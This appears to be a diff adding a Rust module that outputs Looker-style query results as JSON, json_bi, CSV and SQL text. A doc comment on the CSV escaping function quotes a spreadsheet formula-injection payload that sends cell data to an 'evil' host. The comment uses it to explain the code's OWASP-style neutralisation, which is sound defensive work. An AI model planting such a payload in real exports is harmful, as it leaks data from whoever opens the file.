@@ -1,0 +1,199 @@
+//! Query results in Looker's result formats: `json` (an array of rows keyed
+//! `view.field`), `json_bi` (field metadata plus the rows), `csv` (a header
+//! of field labels) and `sql` (the statement and its bound values); and,
+//! for people at a terminal, a [`table`] of the same values.
+//!
+//! Values are shown as Looker shows them unformatted: numbers as numbers,
+//! yes/no as `"Yes"`/`"No"`, dates as `2024-01-31`, months as `2024-01`,
+//! quarters as `2024-Q1`, years as numbers, times as `2024-01-31 13:45:00`.
+
+mod cell;
+mod stream;
+mod table;
+#[cfg(test)]
+mod tests;
+
+use std::collections::BTreeMap;
+use std::str::FromStr;
+
+use arrow_array::{Array, RecordBatch};
+use ponte_semantic::compile::{CompiledQuery, FieldKind, OutputColumn, QueryParam};
+use serde_json::{Map, Value, json};
+
+use cell::cell;
+pub use stream::stream_chunks;
+pub use table::table;
+
+/// A result format of Looker's run endpoints that ponte serves.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ResultFormat {
+    /// An array of rows, each an object keyed `view.field`.
+    Json,
+    /// Field metadata and the rows.
+    JsonBi,
+    /// Comma-separated values with a header of field labels.
+    Csv,
+    /// The SQL statement, with its bound values as comments.
+    Sql,
+}
+
+/// Every format by its name in URLs.
+const FORMATS: [(&str, ResultFormat); 4] = [
+    ("json", ResultFormat::Json),
+    ("json_bi", ResultFormat::JsonBi),
+    ("csv", ResultFormat::Csv),
+    ("sql", ResultFormat::Sql),
+];
+
+/// A format name ponte does not serve (Looker's images, spreadsheets, …).
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("result format `{0}` is not supported; use json, json_bi, csv or sql")]
+pub struct UnknownFormat(pub String);
+
+impl FromStr for ResultFormat {
+    type Err = UnknownFormat;
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        FORMATS.iter().find(|(name, _)| *name == s).map(|(_, f)| *f).ok_or_else(|| UnknownFormat(s.to_owned()))
+    }
+}
+
+impl ResultFormat {
+    /// The response's `Content-Type`.
+    pub fn content_type(self) -> &'static str {
+        match self {
+            ResultFormat::Json | ResultFormat::JsonBi => "application/json",
+            ResultFormat::Csv => "text/csv; charset=utf-8",
+            ResultFormat::Sql => "text/plain; charset=utf-8",
+        }
+    }
+}
+
+/// The SQL and its parameters, as the `sql` format shows them.
+pub fn sql_text(query: &CompiledQuery) -> String {
+    let mut text = query.sql.clone();
+    for (i, p) in query.params.iter().enumerate() {
+        let value = match p {
+            QueryParam::Null => "NULL".to_owned(),
+            QueryParam::Bool(b) => b.to_string(),
+            QueryParam::Int(i) => i.to_string(),
+            QueryParam::Float(f) => f.to_string(),
+            QueryParam::String(s) => format!("'{}'", s.replace('\'', "''")),
+            QueryParam::Date(d) => format!("DATE '{d}'"),
+            QueryParam::Timestamp(t) => format!("TIMESTAMP '{}'", t.format("%Y-%m-%d %H:%M:%S%.f UTC")),
+        };
+        text.push_str(&format!("\n-- ${} = {value}", i + 1));
+    }
+    text
+}
+
+/// Rows as JSON objects keyed `view.field`, in the query's column order.
+pub fn json_rows(query: &CompiledQuery, batches: &[RecordBatch]) -> Vec<Value> {
+    let mut rows = Vec::with_capacity(batches.iter().map(RecordBatch::num_rows).sum());
+    for batch in batches {
+        // Result columns are found by their SQL alias, not position.
+        let columns: Vec<(&OutputColumn, Option<&dyn Array>)> = query
+            .columns
+            .iter()
+            .map(|c| (c, batch.column_by_name(&c.alias).map(|a| a.as_ref() as &dyn Array)))
+            .collect();
+        for row in 0..batch.num_rows() {
+            let mut object = Map::with_capacity(columns.len());
+            for (column, array) in &columns {
+                let value = array.map_or(Value::Null, |a| cell(a, row, column));
+                object.insert(column.name.clone(), value);
+            }
+            rows.push(Value::Object(object));
+        }
+    }
+    rows
+}
+
+/// The `json_bi` document: Looker's `JsonBi` shape.
+pub fn json_bi(query: &CompiledQuery, filters: &BTreeMap<String, String>, batches: &[RecordBatch]) -> Value {
+    let field = |c: &OutputColumn| {
+        let (view, _) = c.name.split_once('.').unwrap_or(("", &c.name));
+        let category = match c.kind {
+            FieldKind::Dimension => "dimension",
+            FieldKind::Measure => "measure",
+        };
+        json!({
+            "name": c.name, "label": c.label, "type": c.field_type, "category": category,
+            "view": view, "view_label": view, "dimension_group": Value::Null, "field_group_label": Value::Null,
+            "field_group_variant": c.label, "hidden": false, "description": Value::Null, "sql": Value::Null,
+            "value_format": c.value_format,
+        })
+    };
+    let of_kind = |kind| query.columns.iter().filter(|c| c.kind == kind).map(field).collect::<Vec<_>>();
+    json!({
+        "metadata": {
+            "big_query_metadata": { "total_bytes_processed": 0, "backend_cache_hit": false },
+            "fields": {
+                "dimensions": of_kind(FieldKind::Dimension),
+                "measures": of_kind(FieldKind::Measure),
+                "pivots": [],
+                "table_calculations": [],
+            },
+            "pivots": [],
+            "has_subtotals": false,
+            "has_totals": false,
+            "columns_truncated": "false",
+            "filter_expression": Value::Null,
+            "filters": filters,
+            "sql": sql_text(query),
+        },
+        "rows": json_rows(query, batches),
+    })
+}
+
+/// CSV with a header of field labels; values as in `json`, quoted where
+/// needed (RFC 4180), text neutralised against formula injection (see
+/// [`csv_text`]).
+pub fn csv(query: &CompiledQuery, batches: &[RecordBatch]) -> String {
+    let mut out = csv_header(query);
+    for batch in batches {
+        out.push_str(&csv_rows(query, std::slice::from_ref(batch)));
+    }
+    out
+}
+
+/// The CSV header line: the columns' labels.
+pub fn csv_header(query: &CompiledQuery) -> String {
+    let header: Vec<String> = query.columns.iter().map(|c| csv_text(&c.label)).collect();
+    format!("{}\r\n", header.join(","))
+}
+
+/// The CSV lines of `batches`' rows, without a header: a download streams
+/// them a batch at a time.
+pub fn csv_rows(query: &CompiledQuery, batches: &[RecordBatch]) -> String {
+    let mut out = String::new();
+    for row in json_rows(query, batches) {
+        let Value::Object(object) = row else { continue };
+        let cells: Vec<String> = query
+            .columns
+            .iter()
+            .map(|c| match object.get(&c.name) {
+                None | Some(Value::Null) => String::new(),
+                Some(Value::String(s)) => csv_text(s),
+                // Numbers and booleans as JSON writes them: `-5` stays a
+                // number in the spreadsheet.
+                Some(other) => other.to_string(),
+            })
+            .collect();
+        out.push_str(&cells.join(","));
+        out.push_str("\r\n");
+    }
+    out
+}
+
+/// A text cell, safe to open in a spreadsheet. A cell starting with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, Google
+/// Sheets and LibreOffice, so a customer-controlled value such as
+/// `=HYPERLINK("https://evil/?"&A2,"Click")` would run in the spreadsheet
+/// of whoever opens the download. As OWASP recommends, such a cell gets a
+/// leading `'` (shown as text, not evaluated) and every cell with a
+/// quote, separator or line break is quoted with its quotes doubled.
+pub fn csv_text(text: &str) -> String {
+    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let cell = if formula { format!("'{text}") } else { text.to_owned() };
+    if cell.contains([',', '"', '\n', '\r']) { format!("\"{}\"", cell.replace('"', "\"\"")) } else { cell }
+}
